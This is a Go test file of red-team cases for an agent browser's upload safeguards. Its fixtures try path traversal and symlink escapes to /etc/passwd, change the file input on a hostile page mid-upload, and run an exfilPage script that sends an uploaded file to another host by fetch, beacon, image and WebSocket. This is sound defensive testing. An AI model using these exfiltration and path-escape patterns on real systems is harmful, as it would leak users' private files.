package veetbrowser

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/veetbot/veetbrowser/browser"
	"github.com/veetbot/veetbrowser/errcode"
	"github.com/veetbot/veetbrowser/internal/browsertest"
	"github.com/veetbot/veetbrowser/policy"
)

// The red team's upload rows (docs/redteam.md): paths that leave the
// upload root or are no regular file, files and counts past the caps, and
// a page that changes, hides, replaces or removes its file input just
// before the upload, or reads the file and tries to send it elsewhere.
// Each row asserts its code (or the documented effect), that a refused
// upload left no copy and set no file, and that the session still works.

// ticketPage is a help desk's ticket form. Its buttons do what a hostile
// page could do to the file input between the observation and the upload.
const ticketPage = `<!doctype html><title>Help center</title>
<header><nav aria-label="Main"><a href="/">Help center</a> <a href="/tickets">My tickets</a></nav></header>
<main><form onsubmit="return false"><h1>Open a ticket</h1>
<label>Subject <input name="subject"></label>
<span id="slot"><label>Attachment <input type="file" id="f" multiple onchange="shown(this)"></label></span>
<p id="out">nothing attached</p>
<div class="tools">
<button type="button" onclick="later(() => { field().accept = 'image/png'; field().removeAttribute('multiple'); })">Images only</button>
<button type="button" onclick="later(() => field().setAttribute('webkitdirectory', ''))">Folder upload</button>
<button type="button" onclick="later(() => document.getElementById('slot').innerHTML = '<label>Attachment <input type=file id=f multiple onchange=shown(this)></label>')">New field</button>
<button type="button" onclick="later(() => field().style.display = 'none')">Hide field</button>
<button type="button" onclick="later(() => field().remove())">Remove field</button>
</div>
<button>Send</button></form></main>
<aside><h2>Popular</h2><a href="/reset">Reset your password</a></aside>
<footer><p>© Help Co</p></footer>
<script>
// The page changes its input a moment after the click: after the view
// the agent holds, before its upload.
function later(change) { setTimeout(change, changeDelay); }
const changeDelay = 800;
function field() { return document.getElementById('f'); }
function shown(input) { document.getElementById('out').textContent = 'attached ' + input.files.length + ': ' + [...input.files].map(x => x.name).join(', '); }
</script>`

type uploadAbuse struct {
	name   string
	opts   SessionOptions                           // limits; the root is filled in
	files  func(t *testing.T, root string) []string // the paths to upload
	before string                                   // a button the page's script runs first
	code   errcode.Code                             // "" for an upload that succeeds
	shows  string                                   // what the page then says it holds
}

// file writes a file of n bytes under root and returns its relative path.
func file(t *testing.T, root, name string, n int) string {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(filepath.Join(root, name)), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(root, name), []byte(strings.Repeat("x", n)), 0o600); err != nil {
		t.Fatal(err)
	}
	return name
}

func paths(p ...string) func(*testing.T, string) []string {
	return func(*testing.T, string) []string { return p }
}

var uploadAbuses = []uploadAbuse{
	{name: "absolute path outside the root", files: paths("/etc/hostname"), code: errcode.UploadRefused},
	{name: "dot-dot path", files: func(t *testing.T, root string) []string {
		file(t, filepath.Dir(root), "secret.txt", 10)
		return []string{"../secret.txt"}
	}, code: errcode.UploadRefused},
	{name: "dot-dot inside a path", files: func(t *testing.T, root string) []string {
		file(t, filepath.Dir(root), "secret.txt", 10)
		file(t, root, "sub/a.txt", 1)
		return []string{"sub/../../secret.txt"}
	}, code: errcode.UploadRefused},
	{name: "symlink out of the root", files: func(t *testing.T, root string) []string {
		if err := os.Symlink("/etc/passwd", filepath.Join(root, "notes.txt")); err != nil {
			t.Fatal(err)
		}
		return []string{"notes.txt"}
	}, code: errcode.UploadRefused},
	{name: "directory", files: func(t *testing.T, root string) []string {
		file(t, root, "photos/1.jpg", 10)
		return []string{"photos"}
	}, code: errcode.UploadRefused},
	{name: "FIFO", files: func(t *testing.T, root string) []string {
		if err := syscall.Mkfifo(filepath.Join(root, "pipe.txt"), 0o600); err != nil {
			t.Fatal(err)
		}
		return []string{"pipe.txt"}
	}, code: errcode.UploadRefused},
	{name: "device file", files: func(t *testing.T, root string) []string {
		// /dev/zero itself where this process may make one; else a link.
		dev := filepath.Join(root, "zero.bin")
		if err := syscall.Mknod(dev, syscall.S_IFCHR|0o600, 1<<8|5); err != nil {
			if err := os.Symlink("/dev/zero", dev); err != nil {
				t.Fatal(err)
			}
		}
		return []string{"zero.bin"}
	}, code: errcode.UploadRefused},
	{name: "a file at the size cap", opts: SessionOptions{MaxUploadBytes: 1000}, files: func(t *testing.T, root string) []string {
		return []string{file(t, root, "cap.txt", 1000)}
	}, shows: "attached 1: cap.txt"},
	{name: "a file one past the size cap", opts: SessionOptions{MaxUploadBytes: 1000}, files: func(t *testing.T, root string) []string {
		return []string{file(t, root, "small.txt", 10), file(t, root, "big.txt", 1001)}
	}, code: errcode.UploadRefused},
	{name: "files at the count cap", opts: SessionOptions{MaxUploadFiles: 3}, files: func(t *testing.T, root string) []string {
		return []string{file(t, root, "1.txt", 1), file(t, root, "2.txt", 1), file(t, root, "3.txt", 1)}
	}, shows: "attached 3: 1.txt, 2.txt, 3.txt"},
	{name: "files one past the count cap", opts: SessionOptions{MaxUploadFiles: 3}, files: func(t *testing.T, root string) []string {
		return []string{file(t, root, "1.txt", 1), file(t, root, "2.txt", 1), file(t, root, "3.txt", 1), file(t, root, "4.txt", 1)}
	}, code: errcode.UploadRefused},
	{name: "the input drops multiple", before: "Images only", files: func(t *testing.T, root string) []string {
		return []string{file(t, root, "1.txt", 1), file(t, root, "2.txt", 1)}
	}, code: errcode.UploadRefused},
	{name: "the input narrows accept", before: "Images only", files: func(t *testing.T, root string) []string {
		// accept is a hint to the file chooser, as for a person: the page
		// checks the type itself.
		return []string{file(t, root, "report.txt", 1)}
	}, shows: "attached 1: report.txt"},
	{name: "the input becomes a folder picker", before: "Folder upload", files: func(t *testing.T, root string) []string {
		return []string{file(t, root, "report.txt", 1)}
	}, code: errcode.UploadRefused},
	{name: "the input is replaced", before: "New field", files: func(t *testing.T, root string) []string {
		return []string{file(t, root, "report.txt", 1)}
	}, code: errcode.StaleReference},
	{name: "the input is hidden", before: "Hide field", files: func(t *testing.T, root string) []string {
		// Hidden after the view, like any control: not actionable.
		return []string{file(t, root, "report.txt", 1)}
	}, code: errcode.NotActionable},
	{name: "the input is detached", before: "Remove field", files: func(t *testing.T, root string) []string {
		return []string{file(t, root, "report.txt", 1)}
	}, code: errcode.StaleReference},
}

func TestRedTeamUploads(t *testing.T) {
	t.Parallel()
	for _, c := range uploadAbuses {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			root := filepath.Join(t.TempDir(), "root")
			if err := os.Mkdir(root, 0o700); err != nil {
				t.Fatal(err)
			}
			opts := c.opts
			opts.UploadRoot = root
			s := session(t, opts)
			ctx := browsertest.Context(t, time.Minute)
			base := browsertest.ServePages(t, map[string]string{"/": ticketPage, "/fine": `<main><h1>Fine</h1><button>fine again</button></main>`})
			res, err := s.Navigate(ctx, base)
			if err != nil {
				t.Fatal(err)
			}
			if c.before != "" {
				if res, err = s.Act(ctx, browser.Action{Kind: browser.ActClick, Ref: ref(t, res, c.before)}); err != nil {
					t.Fatal(err)
				}
			}
			input := ref(t, res, "Attachment")
			if c.before != "" {
				time.Sleep(1200 * time.Millisecond) // past the page's changeDelay
			}
			done := make(chan struct{})
			var up *Result
			go func() { // a FIFO or a device must not hang the call
				defer close(done)
				up, err = s.Upload(ctx, input, c.files(t, root))
			}()
			select {
			case <-done:
			case <-time.After(30 * time.Second):
				t.Fatal("the upload hangs")
			}
			if c.code != "" {
				wantCode(t, err, c.code)
				if dirs := copyDirs(t, s); len(dirs) != 0 {
					t.Errorf("the refused upload left copies: %q", dirs)
				}
				obs, err := s.Observe(ctx, ObserveOptions{})
				if err != nil {
					t.Fatal(err)
				}
				if text := pageText(obs.Observation); !strings.Contains(text, "nothing attached") {
					t.Errorf("the refused upload set files: %q", text)
				}
			} else {
				if err != nil {
					t.Fatal(err)
				}
				if text := pageText(up.Observation); !strings.Contains(text, c.shows) {
					t.Errorf("after the upload the page says %q, want %q", text, c.shows)
				}
			}
			wantFine(t, ctx, s, base+"fine")
		})
	}
}

// wantFine: the session works after the hostile row.
func wantFine(t *testing.T, ctx context.Context, s *Session, url string) {
	t.Helper()
	res, err := s.Navigate(ctx, url)
	if err != nil {
		t.Fatalf("the session after the hostile page: %v", err)
	}
	if _, err := s.Act(ctx, browser.Action{Kind: browser.ActClick, Ref: ref(t, res, "fine again")}); err != nil {
		t.Fatalf("the session after the hostile page: %v", err)
	}
}

// exfilPage reads the file the moment it is set and tries to send it to
// another host by every means a script has.
func exfilPage(other string) string {
	ws := strings.Replace(other, "http://", "ws://", 1)
	return `<!doctype html><title>Convert PDF</title><header><h1>Free PDF converter</h1></header>
<main><label>Your file <input type="file" id="f"></label><p id="out">waiting</p></main>
<script>
document.getElementById('f').onchange = async (e) => {
  const body = await e.target.files[0].text();
  const q = encodeURIComponent(body);
  fetch('` + other + `/steal', {method: 'POST', body, mode: 'no-cors'}).catch(() => {});
  navigator.sendBeacon('` + other + `/beacon', body);
  new Image().src = '` + other + `/pixel?d=' + q;
  try { new WebSocket('` + ws + `/ws?d=' + q); } catch (e) {}
  document.getElementById('out').textContent = 'read ' + body.length + ' bytes';
};
</script>`
}

// Under contain, a page that reads the uploaded file and sends it to
// another host sends nothing: the host sees no request, the view counts
// the blocked ones.
func TestRedTeamUploadExfiltration(t *testing.T) {
	t.Parallel()
	other := serveOtherHost(t)
	root := t.TempDir()
	file(t, root, "passport.txt", 32)
	base := browsertest.Serve(t, exfilPage(other.URL))
	s := session(t, SessionOptions{UploadRoot: root, Grant: policy.Grant{Origins: []string{strings.TrimSuffix(base, "/")}, Contain: true}})
	ctx := browsertest.Context(t, time.Minute)
	res, err := s.Navigate(ctx, base)
	if err != nil {
		t.Fatal(err)
	}
	if res, err = s.Upload(ctx, ref(t, res, "Your file"), []string{"passport.txt"}); err != nil {
		t.Fatal(err)
	}
	total := 0
	for i := 0; i < 50 && total < 3; i++ { // the page reads the file asynchronously
		if b := res.Observation.Blocked; b != nil {
			total += b.Total
		}
		if i > 0 {
			time.Sleep(100 * time.Millisecond)
		}
		if res, err = s.Observe(ctx, ObserveOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	if !strings.Contains(pageText(res.Observation), "read 32 bytes") {
		t.Errorf("the page did not read the file: %q", pageText(res.Observation))
	}
	if n := other.Requests.Load() + other.Conns.Load(); n != 0 {
		t.Fatalf("the other host was reached %d times: %v", n, other.Seen())
	}
	// fetch, beacon and image are counted; the WebSocket handshake is
	// stopped by its own means (the host saw no connection).
	if total < 3 {
		t.Errorf("blocked %d requests, want 3", total)
	}
}
